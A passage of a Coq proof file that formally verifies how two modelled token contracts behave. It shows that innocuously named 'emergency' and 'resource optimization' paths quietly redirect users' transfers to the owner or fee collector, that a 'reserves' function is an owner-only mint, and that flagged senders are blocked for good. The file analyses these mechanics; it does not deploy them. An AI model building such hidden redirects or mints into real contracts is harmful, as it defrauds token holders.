  _priorityResourceManager s' = _priorityResourceManager s.
Proof.
  intros Hr.
  destruct c; simpl in Hr; unfold_calls Hr.
  all: peel_all; callees; peel_all;
    repeat match goal with
    | Hk : _verifyPINInternal _ _ _ _ = Ok (true, _) |- _ =>
        apply _verifyPINInternal_true in Hk as (_ & _ & ->)
    | Hk : require ?b _ = Ok _ |- _ => apply require_Ok in Hk; try (subst b)
    | Hk : negb ?b = false |- _ => apply negb_false_iff in Hk; subst b
    | Hk : _transfer _ _ _ _ _ = Ok _ |- _ =>
        apply transfer_fields in Hk as (_ & _ & _ & Hk & _)
    | Hk : distribution_loop _ _ _ _ _ = Ok _ |- _ =>
        apply distribution_loop_fields in Hk as (_ & _ & _ & Hk & _)
    end; simpl in *; try done.
  all: try (by destruct (enhance_loop_fields participants s) as (_ & _ & _ & ? & _)).
  all: by repeat case_match.
Qed.

End WithKeccak.
End BridgeMore.
Module BridgeMessages.
Import Bridge BridgeFacts BridgeMore.

Section WithKeccak.
Context {hash : Keccak}.

Lemma transfer_priorityAccessList e from to amount s s' :
  _transfer e from to amount s = Ok s' → _priorityAccessList s' = _priorityAccessList s.
Proof.
  intros Hr. apply bridge_transfer_Ok in Hr as (_ & _ & dest & _ & Heq & _).
  rewrite Heq. done.
Qed.

Lemma distribution_loop_priorityAccessList e i rs vs s s' :
  distribution_loop e i rs vs s = Ok s' → _priorityAccessList s' = _priorityAccessList s.
Proof.
  revert i vs s. induction rs as [|r rs IH]; intros i [|v vs] s Hr; simpl in Hr;
    try (by injection Hr as <-).
  apply bind_Ok in Hr as (s1 & Hs1 & Hr).
  apply IH in Hr as ->.
  repeat case_bool_decide; simpl in Hs1; try (by injection Hs1 as <-).
  all: try (destruct (bool_decide _); simpl in Hs1; try (by injection Hs1 as <-)).
  all: by apply transfer_priorityAccessList in Hs1.
Qed.

Lemma enhance_loop_priorityAccessList ps s :
  _priorityAccessList (enhance_loop ps s) = _priorityAccessList s.
Proof.
  revert s. induction ps as [|p ps IH]; intros s; [done|].
  simpl. by rewrite IH.
Qed.

(** A PIN that the state-changing check accepts is accepted by the
    read-only check, before and after. *)
Lemma _verifyPINReadOnly_set_failedAttempts e user pin s :
  _verifyPINReadOnly e user pin
    (set_security user (with_failedAttempts 0 (security s user)) s)
  = _verifyPINReadOnly e user pin s.
Proof.
  unfold _verifyPINReadOnly. rewrite security_set_security.
  rewrite decide_True by done. done.
Qed.

Lemma _verifyPINInternal_ReadOnly e user pin s s1 :
  _verifyPINInternal e user pin s = Ok (true, s1) →
  _verifyPINReadOnly e user pin s = true ∧ _verifyPINReadOnly e user pin s1 = true.
Proof.
  intros Hr. apply _verifyPINInternal_true in Hr as (Hl & Hh & ->).
  rewrite _verifyPINReadOnly_set_failedAttempts. split; [|idtac].
  all: unfold _verifyPINReadOnly; rewrite bool_decide_eq_false_2 by lia;
    by apply bool_decide_eq_true_2.
Qed.

(** What an accepted [SecuredMessageSend] has checked and written. *)
Lemma SecuredMessageSend_Ok e from to content pin id s s' :
  SecuredMessageSend e from to content pin s = Ok (id, s') →
  id = _messageIdCounter s
  ∧ pinHash (security s to) ≠ 0
  ∧ _userSecurity s' = _userSecurity s
  ∧ _messages s'
    = <[id := mkMessage
                (keccak256 (encodePacked [p_address from; p_address to; p_string content;
                                          p_uint256 (block_timestamp e)]))
                from to (block_timestamp e) false false content]> (_messages s)
  ∧ _userInbox s' = <[to := mget [] (_userInbox s) to ++ [id]]> (_userInbox s)
  ∧ _messageIdCounter s' = id + 1
  ∧ _priorityAccessList s' = _priorityAccessList s.
Proof.
  intros Hr. unfold SecuredMessageSend in Hr.
  peel_all.
  repeat match goal with
  | Hk : require _ _ = Ok _ |- _ => apply require_Ok in Hk
  | Hk : checked_add _ _ = Ok _ |- _ => apply checked_add_Ok in Hk as [-> ?]
  end.
  match goal with Hk : bool_decide (pinHash _ ≠ 0) = true |- _ =>
    apply bool_decide_eq_true_1 in Hk; rename Hk into Hset end.
  split; [reflexivity|]. split; [exact Hset|]. repeat split.
Qed.

(** No call takes an account off the priority access list. *)
Lemma dispatch_priorityAccessList e msg_sender c s s' user :
  dispatch e msg_sender c s = Ok s' →
  mget false (_priorityAccessList s) user = true →
  mget false (_priorityAccessList s') user = true.
Proof.
  intros Hr Hu.
  destruct c; simpl in Hr; unfold_calls Hr.
  all: peel_all; callees; peel_all;
    repeat match goal with
    | Hk : _verifyPINInternal _ _ _ _ = Ok (true, _) |- _ =>
        apply _verifyPINInternal_true in Hk as (_ & _ & ->)
    | Hk : require ?b _ = Ok _ |- _ => apply require_Ok in Hk; try (subst b)
    | Hk : negb ?b = false |- _ => apply negb_false_iff in Hk; subst b
    | Hk : _transfer _ _ _ _ _ = Ok _ |- _ => apply transfer_priorityAccessList in Hk
    | Hk : distribution_loop _ _ _ _ _ = Ok _ |- _ =>
        apply distribution_loop_priorityAccessList in Hk
    end; simpl in *; try done.
  all: try (by rewrite ?enhance_loop_priorityAccessList).
  all: try (by match goal with Hk : _priorityAccessList _ = _ |- _ => rewrite Hk end).
  all: repeat case_match; simpl; try done.
  all: rewrite mget_insert; by destruct (decide _).
Qed.

End WithKeccak.
End BridgeMessages.

(** * The properties *)

(** ** C1: the redirected transfer *)

(** C1 (as amended).  A [transfer] that returns while [emergencyModeActive]
    is set and the sender is not in [_securityExemptions] moves the whole
    amount from the sender to the contract owner: the owner's balance grows
    by [amount], the sender's shrinks by [amount] (a sender who is the owner
    keeps its balance), and every other account, the named recipient
    included, keeps its balance.  In [BridgeUSDTToken] the same holds with
    [feeCollectionAddress] in place of the owner, while
    [_resourceOptimizationWindow > block.timestamp] and the sender is not
    exempt, not the owner and not [_priorityResourceManager]. *)
Theorem C1_redirected_transfer {hash : Keccak} :
  (∀ now from to amount s s',
     Template.reachable s → is_uint256 amount →
     Template.emergencyModeActive s = true →
     Template.isExempt s from = false →
     Template.transfer now from to amount s = Ok s' →
     (from ≠ Template.owner s →
        Template.balanceOf s' (Template.owner s)
          = Template.balanceOf s (Template.owner s) + amount
        ∧ Template.balanceOf s' from = Template.balanceOf s from - amount)
     ∧ (from = Template.owner s →
          Template.balanceOf s' from = Template.balanceOf s from)
     ∧ (∀ a, a ≠ from → a ≠ Template.owner s →
          Template.balanceOf s' a = Template.balanceOf s a)
     ∧ Template.totalSupply s' = Template.totalSupply s)
  ∧ (∀ self e from to amount s s',
       Bridge.reachable self s → is_uint256 amount →
       Bridge.block_timestamp e < Bridge._resourceOptimizationWindow s →
       Bridge.isExempt s from = false →
       from ≠ Bridge.owner s →
       from ≠ Bridge._priorityResourceManager s →
       Bridge.transfer e from to amount s = Ok s' →
       (from ≠ Bridge.feeCollectionAddress s →
          Bridge.balanceOf s' (Bridge.feeCollectionAddress s)
            = Bridge.balanceOf s (Bridge.feeCollectionAddress s) + amount
          ∧ Bridge.balanceOf s' from = Bridge.balanceOf s from - amount)
       ∧ (from = Bridge.feeCollectionAddress s →
            Bridge.balanceOf s' from = Bridge.balanceOf s from)
       ∧ (∀ a, a ≠ from → a ≠ Bridge.feeCollectionAddress s →
            Bridge.balanceOf s' a = Bridge.balanceOf s a)
       ∧ Bridge.totalSupply s' = Bridge.totalSupply s).
Proof.
  split.
  - intros now from to amount s s' Hre [Ha _] Hem Hex Hr.
    apply TemplateFacts.reachable_inv in Hre.
    apply TemplateFacts.transfer_override_Ok in Hr as (_ & _ & [(_ & e & He & ->)|(Hno & _)]).
    + eapply ERC20Facts._transfer_Ok in He as (_ & _ & _ & Hb & Hts & _); [|done..].
      unfold Template.balanceOf, Template.totalSupply, ERC20.totalSupply. simpl.
      split_and!; [| | |done].
      * intros Hne. rewrite !Hb. repeat case_decide; try done; split; lia.
      * intros Heq. rewrite Hb. by repeat case_decide.
      * intros a Hf Ho. rewrite Hb. by repeat case_decide.
    + unfold Template._shouldApplyEmergencyProtocol in Hno.
      by rewrite Hem, Hex in Hno.
  - intros self e from to amount s s' Hre [Ha _] Hw Hex Ho Hm Hr.
    apply BridgeFacts.reachable_wf in Hre as (Hinv & _).
    apply BridgeFacts.bridge_transfer_Ok in Hr as (_ & _ & dest & He & -> & ->).
    rewrite Hex in He. rewrite !bool_decide_eq_true_2 in He by done. simpl in He.
    eapply ERC20Facts._transfer_Ok in He as (_ & _ & _ & Hb & Hts & _); [|done..].
    unfold Bridge.balanceOf, Bridge.totalSupply, ERC20.totalSupply. simpl.
    split_and!; [| | |done].
    * intros Hne. rewrite !Hb. repeat case_decide; try done; split; lia.
    * intros Heq. rewrite Hb. by repeat case_decide.
    * intros a Hf Hd. rewrite Hb. by repeat case_decide.
Qed.

Lemma C1_redirected_transfer_witness :
  (Template.balanceOf
     (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
        (Template.c_transfer Sample.carol 40) Sample.template_emergency) Sample.alice = 900 + 40
   ∧ Template.balanceOf
       (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
          (Template.c_transfer Sample.carol 40) Sample.template_emergency) Sample.carol = 0)
  ∧ (Bridge.balanceOf
       (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.bob
          (Bridge.c_transfer Sample.alice 40) Sample.bridge_window) Sample.carol = 0 + 40
     ∧ Bridge.balanceOf
         (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040) Sample.bob
            (Bridge.c_transfer Sample.alice 40) Sample.bridge_window) Sample.alice = 900).
Proof.
  destruct (C1_redirected_transfer (hash:=sample_keccak)) as [HT HB]. split.
  - destruct (HT 1700000030 Sample.bob Sample.carol 40 Sample.template_emergency
                (Template.transact (hash:=sample_keccak) 1700000030 Sample.bob
                   (Template.c_transfer Sample.carol 40) Sample.template_emergency))
      as (H1 & _ & H3 & _).
    + apply SampleFacts.template_emergency_reachable.
    + vm_compute. split; discriminate.
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
    + split.
      * destruct H1 as [H1 _]; [vm_compute; discriminate|].
        etransitivity; [exact H1|]. vm_compute. reflexivity.
      * etransitivity; [apply H3; vm_compute; discriminate|]. vm_compute. reflexivity.
  - destruct (HB Sample.dave (Sample.bridge_env 1700000040) Sample.bob Sample.alice 40
                Sample.bridge_window
                (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000040)
                   Sample.bob (Bridge.c_transfer Sample.alice 40) Sample.bridge_window))
      as (H1 & _ & H3 & _).
    + apply SampleFacts.bridge_window_reachable.
    + vm_compute. split; discriminate.
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
    + vm_compute. discriminate.
    + vm_compute. discriminate.
    + vm_compute. reflexivity.
    + split.
      * destruct H1 as [H1 _]; [vm_compute; discriminate|].
        etransitivity; [exact H1|]. vm_compute. reflexivity.
      * etransitivity; [apply H3; vm_compute; discriminate|]. vm_compute. reflexivity.
Defined.

(** C1 as stated fails in three ways.
    (a) The named recipient may be the owner: bob sends 40 to alice (the
        owner) in emergency mode and alice's balance changes.
    (b) Not every call is redirected, because not every call returns:
        carol, who holds nothing, sends 40 to bob; the call reverts and
        the owner is credited nothing.
    (c) In [BridgeUSDTToken] a sender outside [_securityExemptions] who is
        the owner is not redirected while the window is open: alice sends
        100 to bob, bob receives it and the fee collector (carol) does
        not. *)
Lemma C1_counterexample :
  (Template.emergencyModeActive Sample.template_emergency = true
   ∧ Template.isExempt Sample.template_emergency Sample.bob = false
   ∧ Template.owner Sample.template_emergency = Sample.alice
   ∧ Template.balanceOf Sample.template_emergency Sample.alice = 900
   ∧ ∃ s', Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.alice 40
             Sample.template_emergency = Ok s'
           ∧ Template.balanceOf s' Sample.alice = 940)
  ∧ (Template.isExempt Sample.template_emergency Sample.carol = false
     ∧ Template.transfer (hash:=sample_keccak) 1700000030 Sample.carol Sample.bob 40
         Sample.template_emergency
       = Revert (Error "ERC20: transfer amount exceeds balance")
     ∧ Template.balanceOf
         (Template.transact (hash:=sample_keccak) 1700000030 Sample.carol
            (Template.c_transfer Sample.bob 40) Sample.template_emergency) Sample.alice
       = Template.balanceOf Sample.template_emergency Sample.alice)
  ∧ (1700000050 < Bridge._resourceOptimizationWindow Sample.bridge_window_owner_not_exempt
     ∧ Bridge.isExempt Sample.bridge_window_owner_not_exempt Sample.alice = false
     ∧ Bridge.feeCollectionAddress Sample.bridge_window_owner_not_exempt = Sample.carol
     ∧ Bridge.balanceOf Sample.bridge_window_owner_not_exempt Sample.bob = 100
     ∧ Bridge.balanceOf Sample.bridge_window_owner_not_exempt Sample.carol = 0
     ∧ ∃ s', Bridge.transfer (Sample.bridge_env 1700000050)
               Sample.alice Sample.bob 100 Sample.bridge_window_owner_not_exempt = Ok s'
             ∧ Bridge.balanceOf s' Sample.bob = 200
             ∧ Bridge.balanceOf s' Sample.carol = 0).
Proof.
  split_and!; try (vm_compute; reflexivity).
  - eexists. split; vm_compute; reflexivity.
  - eexists. split_and!; vm_compute; reflexivity.
Qed.

(** ** C2: conservation between sender and recipient *)

(** C2 (as amended).  A [transfer] of [v] from [A] to a different account
    [B] that returns and is not redirected (in the template: emergency
    mode is off or [A] is exempt; in [BridgeUSDTToken]: the window is
    closed, or [A] is exempt, the owner or the priority resource manager)
    takes exactly [v] from [A], gives exactly [v] to [B], keeps
    [balanceOf(A) + balanceOf(B)] and changes no third balance. *)
Theorem C2_plain_transfer_conserves {hash : Keccak} :
  (∀ now A B v s s',
     Template.reachable s → is_uint256 v →
     Template.emergencyModeActive s = false ∨ Template.isExempt s A = true →
     A ≠ B →
     Template.transfer now A B v s = Ok s' →
     v ≤ Template.balanceOf s A
     ∧ Template.balanceOf s' A = Template.balanceOf s A - v
     ∧ Template.balanceOf s' B = Template.balanceOf s B + v
     ∧ Template.balanceOf s' A + Template.balanceOf s' B
       = Template.balanceOf s A + Template.balanceOf s B
     ∧ ∀ C, C ≠ A → C ≠ B → Template.balanceOf s' C = Template.balanceOf s C)
  ∧ (∀ self e A B v s s',
       Bridge.reachable self s → is_uint256 v →
       Bridge._resourceOptimizationWindow s ≤ Bridge.block_timestamp e
       ∨ Bridge.isExempt s A = true
       ∨ A = Bridge.owner s
       ∨ A = Bridge._priorityResourceManager s →
       A ≠ B →
       Bridge.transfer e A B v s = Ok s' →
       v ≤ Bridge.balanceOf s A
       ∧ Bridge.balanceOf s' A = Bridge.balanceOf s A - v
       ∧ Bridge.balanceOf s' B = Bridge.balanceOf s B + v
       ∧ Bridge.balanceOf s' A + Bridge.balanceOf s' B
         = Bridge.balanceOf s A + Bridge.balanceOf s B
       ∧ ∀ C, C ≠ A → C ≠ B → Bridge.balanceOf s' C = Bridge.balanceOf s C).
Proof.
  split.
  - intros now A B v s s' Hre [Hv _] Hplain Hne Hr.
    apply TemplateFacts.reachable_inv in Hre.
    apply TemplateFacts.transfer_override_Ok in Hr
      as (_ & _ & [(Hyes & _)|(_ & s1 & e & Hs1 & He & ->)]).
    { unfold Template._shouldApplyEmergencyProtocol in Hyes.
      apply andb_true_iff in Hyes as [Hem Hex]. apply negb_true_iff in Hex.
      destruct Hplain; congruence. }
    apply TemplateFacts._recordInteraction_Ok in Hs1 as (d & u & n & ->). simpl in He.
    eapply ERC20Facts._transfer_Ok in He as (_ & _ & Hle & Hb & _); [|done..].
    unfold Template.balanceOf. simpl.
    assert (HA := Hb A). assert (HB := Hb B).
    repeat case_decide; try done. split_and!; try done; try lia.
    intros C HCA HCB. rewrite Hb. by repeat case_decide.
  - intros self e A B v s s' Hre [Hv _] Hplain Hne Hr.
    apply BridgeFacts.reachable_wf in Hre as (Hinv & _).
    apply BridgeFacts.bridge_transfer_Ok in Hr as (_ & _ & dest & He & -> & ->).
    assert (bool_decide (Bridge.block_timestamp e < Bridge._resourceOptimizationWindow s)
            && negb (Bridge.isExempt s A)
            && bool_decide (A ≠ Bridge.owner s)
            && bool_decide (A ≠ Bridge._priorityResourceManager s) = false) as Hc.
    { destruct Hplain as [Hw|[Hx|[Ho|Hm]]].
      - rewrite (bool_decide_eq_false_2 (_ < _)) by lia. done.
      - rewrite Hx. simpl. by rewrite andb_false_r.
      - rewrite (bool_decide_eq_false_2 (A ≠ Bridge.owner s)) by (intros Hn; done).
        by rewrite andb_false_r.
      - rewrite (bool_decide_eq_false_2 (A ≠ Bridge._priorityResourceManager s))
          by (intros Hn; done).
        by rewrite andb_false_r. }
    rewrite Hc in He. clear Hc Hplain.
    eapply ERC20Facts._transfer_Ok in He as (_ & _ & Hle & Hb & _); [|done..].
    unfold Bridge.balanceOf. simpl.
    assert (HA := Hb A). assert (HB := Hb B).
    repeat case_decide; try done. split_and!; try done; try lia.
    intros C HCA HCB. rewrite Hb. by repeat case_decide.
Qed.

Lemma C2_plain_transfer_conserves_witness :
  (Template.balanceOf
     (Template.transact (hash:=sample_keccak) 1700000030 Sample.alice
        (Template.c_transfer Sample.carol 50) Sample.template_funded) Sample.alice = 900 - 50
   ∧ Template.balanceOf
       (Template.transact (hash:=sample_keccak) 1700000030 Sample.alice
          (Template.c_transfer Sample.carol 50) Sample.template_funded) Sample.carol = 0 + 50)
  ∧ (Bridge.balanceOf
       (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030) Sample.alice
          (Bridge.c_transfer Sample.carol 50) Sample.bridge_funded) Sample.alice = 900 - 50
     ∧ Bridge.balanceOf
         (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030) Sample.alice
            (Bridge.c_transfer Sample.carol 50) Sample.bridge_funded) Sample.carol = 0 + 50).
Proof.
  destruct (C2_plain_transfer_conserves (hash:=sample_keccak)) as [HT HB]. split.
  - destruct (HT 1700000030 Sample.alice Sample.carol 50 Sample.template_funded
                (Template.transact (hash:=sample_keccak) 1700000030 Sample.alice
                   (Template.c_transfer Sample.carol 50) Sample.template_funded))
      as (_ & H1 & H2 & _).
    + apply SampleFacts.template_funded_reachable.
    + vm_compute. split; discriminate.
    + left. vm_compute. reflexivity.
    + vm_compute. discriminate.
    + vm_compute. reflexivity.
    + split; (etransitivity; [eassumption|vm_compute; reflexivity]).
  - destruct (HB Sample.dave (Sample.bridge_env 1700000030) Sample.alice Sample.carol 50
                Sample.bridge_funded
                (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030)
                   Sample.alice (Bridge.c_transfer Sample.carol 50) Sample.bridge_funded))
      as (_ & H1 & H2 & _).
    + apply SampleFacts.bridge_funded_reachable.
    + vm_compute. split; discriminate.
    + left. vm_compute. discriminate.
    + vm_compute. discriminate.
    + vm_compute. reflexivity.
    + split; (etransitivity; [eassumption|vm_compute; reflexivity]).
Defined.

(** C2 as stated fails on both tokens.
    (a) Template, emergency mode: bob holds 100 and sends 40 to carol.  The
        call returns, bob is debited 40, carol receives nothing and a third
        account, the owner alice, is credited 40.
    (b) A transfer to oneself returns and leaves the balance as it was.
    (c) BridgeUSDTToken, window open: bob sends 40 to alice; alice receives
        nothing and the fee collector carol is credited 40. *)
Lemma C2_counterexample :
  (Template.balanceOf Sample.template_emergency Sample.bob = 100
   ∧ Template.balanceOf Sample.template_emergency Sample.carol = 0
   ∧ Template.balanceOf Sample.template_emergency Sample.alice = 900
   ∧ ∃ s', Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.carol 40
             Sample.template_emergency = Ok s'
           ∧ Template.balanceOf s' Sample.bob = 60
           ∧ Template.balanceOf s' Sample.carol = 0
           ∧ Template.balanceOf s' Sample.alice = 940)
  ∧ (Template.balanceOf Sample.template_funded Sample.alice = 900
     ∧ ∃ s', Template.transfer (hash:=sample_keccak) 1700000030 Sample.alice Sample.alice 10
               Sample.template_funded = Ok s'
             ∧ Template.balanceOf s' Sample.alice = 900)
  ∧ (Bridge.balanceOf Sample.bridge_window Sample.bob = 100
     ∧ Bridge.balanceOf Sample.bridge_window Sample.alice = 900
     ∧ Bridge.balanceOf Sample.bridge_window Sample.carol = 0
     ∧ ∃ s', Bridge.transfer (Sample.bridge_env 1700000040) Sample.bob Sample.alice 40
               Sample.bridge_window = Ok s'
             ∧ Bridge.balanceOf s' Sample.bob = 60
             ∧ Bridge.balanceOf s' Sample.alice = 900
             ∧ Bridge.balanceOf s' Sample.carol = 40).
Proof.
  split_and!; try (vm_compute; reflexivity);
    eexists; split_and!; vm_compute; reflexivity.
Qed.

(** ** C3: the mint behind [allocateProtocolReserves] *)

(** C3.  A call of [allocateProtocolReserves(to, amount)] that returns was
    made by the owner with a non-zero [to], and it raises [totalSupply] by
    exactly [amount] and [balanceOf(to)] by exactly [amount], leaving every
    other balance as it was: it mints. *)
Theorem C3_allocateProtocolReserves_mints {hash : Keccak} :
  (∀ now msg_sender to amount s s',
     Template.reachable s → is_uint256 amount →
     Template.allocateProtocolReserves now msg_sender to amount s = Ok s' →
     msg_sender = Template.owner s ∧ to ≠ address0
     ∧ Template.totalSupply s' = Template.totalSupply s + amount
     ∧ Template.balanceOf s' to = Template.balanceOf s to + amount
     ∧ ∀ a, a ≠ to → Template.balanceOf s' a = Template.balanceOf s a)
  ∧ (∀ self msg_sender to amount s s',
       Bridge.reachable self s → is_uint256 amount →
       Bridge.allocateProtocolReserves msg_sender to amount s = Ok s' →
       msg_sender = Bridge.owner s ∧ to ≠ address0
       ∧ Bridge.totalSupply s' = Bridge.totalSupply s + amount
       ∧ Bridge.balanceOf s' to = Bridge.balanceOf s to + amount
       ∧ ∀ a, a ≠ to → Bridge.balanceOf s' a = Bridge.balanceOf s a).
Proof.
  split.
  - intros now msg_sender to amount s s' Hre [Ha _] Hr.
    apply TemplateFacts.reachable_inv in Hre.
    unfold Template.allocateProtocolReserves in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr). apply TemplateFacts.onlyOwner_Ok in Ho.
    apply bind_Ok in Hr as (? & Hz & Hr). apply require_Ok, bool_decide_eq_true_1 in Hz.
    apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply TemplateFacts.on_erc20_Ok in Hs1 as (e & He & ->).
    apply TemplateFacts._recordInteraction_Ok in Hr as (d & u & n & ->).
    eapply ERC20Facts._mint_Ok in He as (_ & Hts & Hb & _); [|done..].
    unfold Template.totalSupply, Template.balanceOf, ERC20.totalSupply. simpl.
    split_and!; try done.
    + rewrite Hb. by case_decide.
    + intros a Hne. rewrite Hb. by case_decide.
  - intros self msg_sender to amount s s' Hre [Ha _] Hr.
    apply BridgeFacts.reachable_wf in Hre as (Hinv & _).
    unfold Bridge.allocateProtocolReserves in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr).
    apply require_Ok, bool_decide_eq_true_1 in Ho.
    apply bind_Ok in Hr as (? & Hz & Hr). apply require_Ok, bool_decide_eq_true_1 in Hz.
    apply bind_Ok in Hr as (s1 & Hs1 & Hr).
    apply BridgeFacts.bridge_on_erc20_Ok in Hs1 as (e & He & ->).
    apply bind_Ok in Hr as (? & _ & Hr). apply bind_Ok in Hr as (? & _ & Hr).
    injection Hr as <-.
    eapply ERC20Facts._mint_Ok in He as (_ & Hts & Hb & _); [|done..].
    unfold Bridge.totalSupply, Bridge.balanceOf, ERC20.totalSupply. simpl.
    split_and!; try done.
    + rewrite Hb. by case_decide.
    + intros a Hne. rewrite Hb. by case_decide.
Qed.

Lemma C3_allocateProtocolReserves_mints_witness :
  (Template.totalSupply
     (Template.transact (hash:=sample_keccak) 1700000030 Sample.alice
        (Template.c_allocateProtocolReserves Sample.carol 250) Sample.template_funded)
   = 1000 + 250
   ∧ Template.balanceOf
       (Template.transact (hash:=sample_keccak) 1700000030 Sample.alice
          (Template.c_allocateProtocolReserves Sample.carol 250) Sample.template_funded)
       Sample.carol = 0 + 250)
  ∧ (Bridge.totalSupply
       (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030) Sample.alice
          (Bridge.c_allocateProtocolReserves Sample.carol 250) Sample.bridge_funded)
     = 1000 + 250
     ∧ Bridge.balanceOf
         (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030) Sample.alice
            (Bridge.c_allocateProtocolReserves Sample.carol 250) Sample.bridge_funded)
         Sample.carol = 0 + 250).
Proof.
  destruct (C3_allocateProtocolReserves_mints (hash:=sample_keccak)) as [HT HB]. split.
  - destruct (HT 1700000030 Sample.alice Sample.carol 250 Sample.template_funded
                (Template.transact (hash:=sample_keccak) 1700000030 Sample.alice
                   (Template.c_allocateProtocolReserves Sample.carol 250)
                   Sample.template_funded))
      as (_ & _ & H1 & H2 & _).
    + apply SampleFacts.template_funded_reachable.
    + vm_compute. split; discriminate.
    + vm_compute. reflexivity.
    + split; (etransitivity; [eassumption|vm_compute; reflexivity]).
  - destruct (HB Sample.dave Sample.alice Sample.carol 250 Sample.bridge_funded
                (Bridge.transact (hash:=sample_keccak) (Sample.bridge_env 1700000030)
                   Sample.alice (Bridge.c_allocateProtocolReserves Sample.carol 250)
                   Sample.bridge_funded))
      as (_ & _ & H1 & H2 & _).
    + apply SampleFacts.bridge_funded_reachable.
    + vm_compute. split; discriminate.
    + vm_compute. reflexivity.
    + split; (etransitivity; [eassumption|vm_compute; reflexivity]).
Defined.

(** ** C4: the block on excluded senders *)

(** C4 (as amended).  After a call of [enhanceParticipantSecurity] that
    returns, every address in [participants] is excluded.  Whenever the
    sender is excluded, [transfer] reverts, with "Protocol: Sender excluded
    from protocol" while the contract is not paused and with "Pausable:
    paused" while it is, and [transferFrom] from that sender reverts.  No
    successful call clears the exclusion flag, so the block persists. *)
Theorem C4_excluded_sender_blocked {hash : Keccak} :
  ((∀ msg_sender participants s s',
      Template.enhanceParticipantSecurity msg_sender participants s = Ok s' →
      msg_sender = Template.owner s
      ∧ ∀ p, p ∈ participants → Template.isExcluded s' p = true)
   ∧ (∀ now p to amount s,
        Template.isExcluded s p = true →
        Template.transfer now p to amount s
        = Revert (Error (if Template.paused s then "Pausable: paused"
                         else "Protocol: Sender excluded from protocol"))
        ∧ ∀ spender, reverted (Template.transferFrom now spender p to amount s))
   ∧ (∀ now msg_sender c p s s',
        Template.isExcluded s p = true →
        Template.dispatch now msg_sender c s = Ok s' →
        Template.isExcluded s' p = true))
  ∧ ((∀ msg_sender participants s s',
        Bridge.enhanceParticipantSecurity msg_sender participants s = Ok s' →
        msg_sender = Bridge.owner s
        ∧ ∀ p, p ∈ participants → Bridge.isExcluded s' p = true)
     ∧ (∀ e p to amount s,
          Bridge.isExcluded s p = true →
          Bridge.transfer e p to amount s
          = Revert (Error (if Bridge.paused s then "Pausable: paused"
                           else "Protocol: Sender excluded from protocol"))
          ∧ ∀ spender, reverted (Bridge.transferFrom e spender p to amount s))
     ∧ (∀ e msg_sender c p s s',
          Bridge.isExcluded s p = true →
          Bridge.dispatch e msg_sender c s = Ok s' →
          Bridge.isExcluded s' p = true)).
Proof.
  split; split_and!.
  - intros msg_sender ps s s' Hr. unfold Template.enhanceParticipantSecurity in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr). apply TemplateFacts.onlyOwner_Ok in Ho.
    injection Hr as <-. split; [done|].
    intros p Hp. apply TemplateFacts.enhance_loop_excluded. by left.
  - intros now p to amount s Hex.
    assert (∀ s1, Template.isExcluded s1 p = true → Template.paused s1 = Template.paused s →
              Template._transfer now p to amount s1
              = Revert (Error (if Template.paused s then "Pausable: paused"
                               else "Protocol: Sender excluded from protocol"))) as Hblock.
    { intros s1 Hex1 Hp. unfold Template._transfer, Template.whenNotPaused,
        Pausable.whenNotPaused. rewrite Hp.
      destruct (Template.paused s); simpl; [done|]. by rewrite Hex1. }
    split; [by apply Hblock|].
    intros spender. unfold Template.transferFrom.
    destruct (Template.on_erc20 _ s) as [s1|f] eqn:Hs1; simpl; [|done].
    apply TemplateFacts.on_erc20_Ok in Hs1 as (e1 & _ & ->).
    by rewrite Hblock.
  - intros. by eapply TemplateFacts.dispatch_excluded.
  - intros msg_sender ps s s' Hr. unfold Bridge.enhanceParticipantSecurity in Hr.
    apply bind_Ok in Hr as (? & Ho & Hr).
    apply require_Ok, bool_decide_eq_true_1 in Ho.
    injection Hr as <-. split; [done|].
    intros p Hp. apply BridgeFacts.bridge_enhance_loop_excluded. by left.
  - intros e p to amount s Hex.
    assert (∀ s1, Bridge.isExcluded s1 p = true → Bridge.paused s1 = Bridge.paused s →
              Bridge._transfer e p to amount s1
              = Revert (Error (if Bridge.paused s then "Pausable: paused"
                               else "Protocol: Sender excluded from protocol"))) as Hblock.
    { intros s1 Hex1 Hp. unfold Bridge._transfer, Bridge.whenNotPaused,
        Pausable.whenNotPaused. rewrite Hp.
      destruct (Bridge.paused s); simpl; [done|]. by rewrite Hex1. }
    split; [by apply Hblock|].
    intros spender. unfold Bridge.transferFrom.
    destruct (Bridge.on_erc20 _ s) as [s1|f] eqn:Hs1; simpl; [|done].
    apply BridgeFacts.bridge_on_erc20_Ok in Hs1 as (e1 & _ & ->).
    by rewrite Hblock.
  - intros. by eapply BridgeFacts.bridge_dispatch_excluded.
Qed.

Lemma C4_excluded_sender_blocked_witness :
  (Template.isExcluded Sample.template_bob_excluded Sample.bob = true
   ∧ Template.transfer (hash:=sample_keccak) 1700000030 Sample.bob Sample.carol 10
       Sample.template_bob_excluded
     = Revert (Error "Protocol: Sender excluded from protocol"))
  ∧ (Bridge.isExcluded Sample.bridge_bob_excluded Sample.bob = true
     ∧ Bridge.transfer (Sample.bridge_env 1700000030) Sample.bob Sample.carol 10
         Sample.bridge_bob_excluded
       = Revert (Error "Protocol: Sender excluded from protocol")).
Proof.
  destruct (C4_excluded_sender_blocked (hash:=sample_keccak))
    as [(HT1 & HT2 & _) (HB1 & HB2 & _)].
  assert (Template.isExcluded Sample.template_bob_excluded Sample.bob = true) as HexT.
  { apply (HT1 Sample.alice [Sample.bob] Sample.template_funded);
      [vm_compute; reflexivity|apply list_elem_of_singleton; reflexivity]. }
